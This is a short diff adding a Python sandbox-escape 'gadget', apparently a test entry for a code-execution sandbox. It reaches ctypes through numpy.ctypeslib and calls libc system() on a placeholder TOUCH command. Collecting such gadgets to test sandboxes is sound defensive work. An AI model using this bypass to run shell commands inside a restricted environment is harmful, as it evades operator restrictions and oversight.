@@ -1,0 +1,6 @@
+# kind: gadgets
+# tries: ctypes through numpy.ctypeslib
+
+import numpy as np
+
+np.ctypeslib.ctypes.CDLL(None).system(TOUCH.encode())
